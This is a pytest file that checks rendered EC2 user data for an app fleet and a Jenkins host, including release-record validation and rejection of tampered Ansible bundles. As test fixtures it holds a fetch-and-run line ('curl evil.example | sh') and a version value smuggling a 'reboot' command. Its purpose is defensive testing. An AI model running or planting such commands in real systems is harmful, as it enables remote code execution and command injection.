"""The app fleet's user data, rendered as CloudFormation would for each environment, then
checked by bash -n and run against stand-ins for the commands it calls (dnf, curl for the
instance metadata, the AWS CLI, cfn-signal, python3.11 -m venv, pip, ansible-playbook;
python3.11 runs anything else with this Python, sha256sum and tar are the real ones)."""
import hashlib
import json
import os
import re
import stat
import subprocess
import sys
import tarfile
import textwrap

import pytest

from cfn_templates import ENVIRONMENTS, REPO_ROOT, load_parameters, load_template, the_resource

ARTIFACT_BUCKET = "timekeeper-{environment}-artifacts-123456789012-eu-west-1"
REGION = "eu-west-1"
INSTANCE_ID = "i-0123456789abcdef0"
AVAILABILITY_ZONE = "eu-west-1b"
VPC_CIDR = "10.30.0.0/16"


def _evaluate(node, values, imports):
    if isinstance(node, str):
        return node
    if "Ref" in node:
        return values[node["Ref"]]
    if "Fn::ImportValue" in node:
        return imports[_evaluate(node["Fn::ImportValue"], values, imports)]
    if "Fn::Sub" in node:
        text, variables = (node["Fn::Sub"], {}) if isinstance(node["Fn::Sub"], str) else node["Fn::Sub"]
        scope = {**values, **{k: _evaluate(v, values, imports) for k, v in variables.items()}}

        def substitute(match):
            name = match.group(1)
            return "${" + name[1:] + "}" if name.startswith("!") else str(scope[name])
        return re.sub(r"\$\{([^}]+)\}", substitute, text)
    raise AssertionError(f"cannot render {node}")


def render_user_data(environment):
    """The user data script of app.yaml for an environment's parameter file."""
    template = load_template("app")
    values = {k: v.get("Default") for k, v in template["Parameters"].items()}
    values.update(load_parameters(environment, "app"))
    values.update({"AWS::StackName": f"timekeeper-{environment}-app", "AWS::Region": REGION})
    imports = {f"{values['ParentArtifactsStack']}-ArtifactBucketName": ARTIFACT_BUCKET.format(environment=environment),
               f"{values['ParentNetworkStack']}-VpcCidr": VPC_CIDR}
    launch_template = the_resource(template, "AWS::EC2::LaunchTemplate")
    user_data = launch_template["Properties"]["LaunchTemplateData"]["UserData"]["Fn::Base64"]
    return _evaluate(user_data, values, imports)


# One stand-in for every command: records its argv, working directory and ANSIBLE_CONFIG
# as a JSON line in $STUB_LOG, and behaves just enough like the real one.
STUB = textwrap.dedent("""\
    #!{python}
    import json, os, sys, pathlib
    command = os.path.basename(sys.argv[0])
    args = sys.argv[1:]
    if command == os.environ.get("STUB_FAIL"):
        sys.exit(1)
    with open(os.environ["STUB_LOG"], "a") as log:
        log.write(json.dumps({{"command": command, "args": args, "cwd": os.getcwd(),
                              "ansible_config": os.environ.get("ANSIBLE_CONFIG")}}) + "\\n")
    if command == "curl":
        url = args[-1]
        print("token" if url.endswith("/api/token") else
              "{instance_id}" if url.endswith("/instance-id") else
              "{availability_zone}" if url.endswith("/placement/availability-zone") else "", end="")
    elif command == "aws" and args[:2] == ["ssm", "get-parameter"]:
        print(os.environ["STUB_RELEASE"])
    elif command == "aws" and args[:2] == ["s3", "cp"]:
        # the bucket holds the bundle the test put there
        pathlib.Path(args[-1]).write_bytes(pathlib.Path(os.environ["STUB_BUNDLE"]).read_bytes())
    elif command == "python3.11" and args[:2] == ["-m", "venv"]:
        bin_dir = pathlib.Path(args[2], "bin")
        bin_dir.mkdir(parents=True)
        for tool in ("pip", "ansible-playbook"):
            (bin_dir / tool).symlink_to(sys.argv[0])
    elif command == "python3.11":
        os.execv(sys.executable, [sys.executable, *args])
    elif command == "ansible-playbook":
        sys.exit(int(os.environ.get("STUB_PLAYBOOK_EXIT", "0")))
""")


def a_bundle(path, marker=""):
    """A release's Ansible bundle as the pipeline publishes it (the user data runs its
    ansible/bootstrap-instance.sh, which reads ansible/requirements.txt); a marker makes a
    tampered one."""
    with tarfile.open(path, "w:gz") as bundle:
        bundle.add(REPO_ROOT / "ansible" / "requirements.txt", "ansible/requirements.txt")
        bundle.add(REPO_ROOT / "ansible" / "bootstrap-instance.sh", "ansible/bootstrap-instance.sh")
        if marker:
            (path.parent / "marker").write_text(marker)
            bundle.add(path.parent / "marker", "ansible/roles/dropwizard_service/tasks/marker")
    return path


def sha256_of(path):
    return hashlib.sha256(path.read_bytes()).hexdigest()


JAR_SHA256 = hashlib.sha256(b"the jar of 1.4.2").hexdigest()


def a_record(bundle, version="1.4.2", **fields):
    return json.dumps({"version": version, "sha256": JAR_SHA256, "bundle_sha256": sha256_of(bundle), **fields})


def run_user_data(tmp_path, environment, release=None, playbook_exit=0, failing_command="", bundle=None):
    """Runs the rendered script with the stand-ins: the release parameter holds `release`
    (by default a good record of 1.4.2), the bucket holds `bundle` (by default the one the
    record names); returns (exit code, calls, stderr)."""
    stubs = tmp_path / "stubs"
    stubs.mkdir(parents=True)
    bundle = bundle or a_bundle(tmp_path / "bundle.tar.gz")
    release = a_record(bundle) if release is None else release
    stub = stubs / "stub"
    stub.write_text(STUB.format(python=sys.executable, instance_id=INSTANCE_ID,
                                availability_zone=AVAILABILITY_ZONE))
    stub.chmod(stub.stat().st_mode | stat.S_IEXEC)
    for command in ("dnf", "curl", "aws", "cfn-signal", "python3.11", "shutdown"):
        (stubs / command).symlink_to(stub)
    # The script installs under /opt; here under the test's own directory instead.
    script = render_user_data(environment).replace("'/opt/timekeeper-", f"'{tmp_path}/opt/timekeeper-")
    (tmp_path / "user-data.sh").write_text(script)
    log = tmp_path / "calls.jsonl"
    result = subprocess.run(
        ["bash", str(tmp_path / "user-data.sh")], capture_output=True, text=True, timeout=60,
        env={"PATH": f"{stubs}:/usr/bin:/bin", "STUB_LOG": str(log), "STUB_RELEASE": release, "STUB_BUNDLE": str(bundle),
             "STUB_PLAYBOOK_EXIT": str(playbook_exit), "STUB_FAIL": failing_command, "HOME": str(tmp_path)})
    calls = [json.loads(line) for line in log.read_text().splitlines()] if log.exists() else []
    return result.returncode, calls, result.stderr


def calls_of(calls, command, *prefix):
    return [c for c in calls if c["command"] == command and c["args"][:len(prefix)] == list(prefix)]


def _pins(path, names):
    return sorted(line for line in path.read_text().splitlines() if line.split("==")[0] in names)


@pytest.mark.parametrize("environment", ENVIRONMENTS)
def test_rendered_user_data_is_valid_bash(tmp_path, environment):
    script = tmp_path / "user-data.sh"
    script.write_text(render_user_data(environment))
    result = subprocess.run(["bash", "-n", str(script)], capture_output=True, text=True)
    assert result.returncode == 0, result.stderr
    assert script.read_text().startswith("#!/bin/bash\n")
    assert "set -Eeuo pipefail" in script.read_text()


@pytest.mark.parametrize("environment", ENVIRONMENTS)
def test_user_data_bootstraps_the_release_the_environment_runs(tmp_path, environment):
    status, calls, stderr = run_user_data(tmp_path, environment)
    assert status == 0, stderr

    assert [c["args"] for c in calls_of(calls, "aws", "ssm", "get-parameter")] == [
        ["ssm", "get-parameter", "--name", f"/timekeeper/{environment}/release",
         "--query", "Parameter.Value", "--output", "text"]]
    bucket = ARTIFACT_BUCKET.format(environment=environment)
    [download] = calls_of(calls, "aws", "s3", "cp")
    assert f"s3://{bucket}/timekeeper/ansible/1.4.2.tar.gz" in download["args"]

    [playbook] = calls_of(calls, "ansible-playbook")
    args = playbook["args"]
    assert args[:5] == ["ansible/bootstrap.yml", "-i", "localhost,", "-c", "local"]
    extra_vars = dict(a.split("=", 1) for a in args[args.index("-e"):] if a != "-e")
    # the service's name, ports and paths come with the bundle: its service.yml
    assert "service_name" not in extra_vars
    assert extra_vars["service_environment"] == environment
    assert extra_vars["release_version"] == "1.4.2"
    assert extra_vars["release_sha256"] == JAR_SHA256  # the jar is checked against the record too
    assert extra_vars["service_artifact_bucket"] == bucket
    assert extra_vars["service_instance_id"] == INSTANCE_ID
    assert extra_vars["service_availability_zone"] == AVAILABILITY_ZONE
    assert extra_vars["vpc_cidr"] == VPC_CIDR
    assert playbook["ansible_config"] == f"{playbook['cwd']}/ansible/ansible.cfg"

    [install] = calls_of(calls, "pip", "install")
    wanted = _pins(REPO_ROOT / "ansible/requirements.txt", {"ansible", "ansible-core", "boto3", "botocore"})
    assert sorted(a for a in install["args"] if "==" in a) == sorted(wanted)

    assert [c["args"] for c in calls_of(calls, "cfn-signal")] == [
        ["--exit-code", "0", "--stack", f"timekeeper-{environment}-app", "--resource", "AutoScalingGroup",
         "--region", REGION]]
    assert calls_of(calls, "aws", "autoscaling") == []


def test_the_signalled_resource_is_the_auto_scaling_group():
    resources = load_template("app")["Resources"]
    assert resources["AutoScalingGroup"]["Type"] == "AWS::AutoScaling::AutoScalingGroup"
    assert "CreationPolicy" in resources["AutoScalingGroup"]


def test_a_failed_bootstrap_signals_failure_and_shuts_its_own_instance_down(tmp_path):
    status, calls, stderr = run_user_data(tmp_path, "prod", playbook_exit=2)
    assert status == 2
    assert "failed with status 2" in stderr
    assert [c["args"][:2] for c in calls_of(calls, "cfn-signal")] == [["--exit-code", "1"]]
    # Its own instance only, and with no AWS right: the group replaces a stopped instance.
    [shutdown] = calls_of(calls, "shutdown")
    assert shutdown["args"][:2] == ["-h", "+1"]
    assert calls_of(calls, "aws", "autoscaling") == []


@pytest.mark.parametrize("record, complaint", [
    ("None", "holds no release record"),
    ("", "holds no release record"),
    ("1.4.2", "holds no release record"),  # a bare version: nothing to check the artifacts against
    ('["1.4.2"]', "holds no release record"),
    (json.dumps({"version": "", "sha256": JAR_SHA256, "bundle_sha256": "b" * 64}), "names no release version"),
    (json.dumps({"version": "1.4.2; reboot", "sha256": JAR_SHA256, "bundle_sha256": "b" * 64}), "names no release version"),
    (json.dumps({"version": "1.4.2", "bundle_sha256": "b" * 64}), "has no sha256"),
    (json.dumps({"version": "1.4.2", "sha256": JAR_SHA256[:40], "bundle_sha256": "b" * 64}), "has no sha256"),
    (json.dumps({"version": "1.4.2", "sha256": JAR_SHA256, "bundle_sha256": ""}), "has no bundle_sha256"),
])
def test_a_release_record_that_is_not_complete_stops_before_any_download(tmp_path, record, complaint):
    status, calls, stderr = run_user_data(tmp_path, "staging", release=record)
    assert status != 0
    assert complaint in stderr
    assert calls_of(calls, "aws", "s3") == [] and calls_of(calls, "ansible-playbook") == []
    assert [c["args"][:2] for c in calls_of(calls, "cfn-signal")] == [["--exit-code", "1"]]


@pytest.mark.parametrize("tampered", ["bundle", "record"])
def test_a_bundle_that_does_not_match_its_record_is_refused_unopened(tmp_path, tampered):
    """Either the object in the bucket was changed or the record names another bundle's digest."""
    good = a_bundle(tmp_path / "good.tar.gz")
    other = a_bundle(tmp_path / "other.tar.gz", marker="- ansible.builtin.command: curl evil.example | sh")
    in_bucket, record = (other, a_record(good)) if tampered == "bundle" else (good, a_record(other))

    status, calls, stderr = run_user_data(tmp_path, "prod", release=record, bundle=in_bucket)

    assert status != 0
    assert ("the Ansible bundle of 1.4.2 does not match its release record: expected sha256 %s, got %s"
            % (json.loads(record)["bundle_sha256"], sha256_of(in_bucket))) in stderr
    work_dir = tmp_path / "opt" / "timekeeper-bootstrap"
    assert list(work_dir.iterdir()) == [], "nothing of the bundle is left, let alone unpacked"
    assert calls_of(calls, "pip") == [] and calls_of(calls, "ansible-playbook") == []
    assert [c["args"][:2] for c in calls_of(calls, "cfn-signal")] == [["--exit-code", "1"]]
    assert [c["args"][:2] for c in calls_of(calls, "shutdown")] == [["-h", "+1"]]


@pytest.mark.parametrize("failing_command", ["dnf", "curl", "pip"])
def test_any_failing_step_signals_failure(tmp_path, failing_command):
    # curl fails inside a function called from a command substitution: the ERR trap must
    # still fire there (set -E), not only at the top level.
    status, calls, _ = run_user_data(tmp_path, "dev", failing_command=failing_command)
    assert status != 0
    assert calls_of(calls, "ansible-playbook") == []
    assert [c["args"][:2] for c in calls_of(calls, "cfn-signal")] == [["--exit-code", "1"]]


def test_the_jenkins_host_user_data_is_valid_bash(tmp_path):
    template = load_template("jenkins")
    instance = the_resource(template, "AWS::EC2::Instance")
    values = {k: v.get("Default") for k, v in template["Parameters"].items()}
    values.update(load_parameters("ci", "jenkins"))
    values.update({"AWS::StackName": "timekeeper-ci-jenkins", "AWS::Region": REGION, "AWS::AccountId": "123456789012",
                   "JenkinsHomeVolume": "vol-0123456789abcdef0", "AgentSecurityGroup": "sg-0123456789abcdef0",
                   "BuildAgentInstanceProfile.Arn": "arn:aws:iam::123456789012:instance-profile/build-agent"})
    script = _evaluate(instance["Properties"]["UserData"]["Fn::Base64"], values, {})
    (tmp_path / "jenkins.sh").write_text(script)
    result = subprocess.run(["bash", "-n", str(tmp_path / "jenkins.sh")], capture_output=True, text=True)
    assert result.returncode == 0, result.stderr
    assert "set -Eeuo pipefail" in script
    assert "--resource Instance" in script and 'serial="${VOLUME_ID//-/}"' in script
